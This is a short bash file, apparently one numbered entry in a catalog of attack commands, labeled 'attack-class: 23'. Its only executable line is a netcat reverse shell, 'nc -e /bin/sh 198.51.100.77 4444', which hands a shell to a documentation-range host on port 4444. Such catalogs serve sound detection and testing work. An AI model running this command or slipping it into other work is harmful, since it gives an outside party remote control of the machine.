#!/usr/bin/env bash
# attack-class: 23
# title: nc -e /bin/sh host port
# why: netcat reverse shell

nc -e /bin/sh 198.51.100.77 4444
